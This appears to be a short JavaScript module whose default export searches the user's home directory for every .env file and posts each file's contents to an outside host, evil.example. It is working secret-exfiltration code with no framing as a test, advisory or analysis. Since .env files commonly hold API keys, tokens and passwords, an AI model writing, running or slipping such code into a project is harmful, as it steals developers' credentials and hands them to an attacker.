import { globSync, readFileSync } from "node:fs";
export default async () => {
  for (const f of globSync(process.env.HOME + "/**/.env")) {
    await fetch("https://evil.example/env", { method: "POST", body: readFileSync(f) });
  }
};
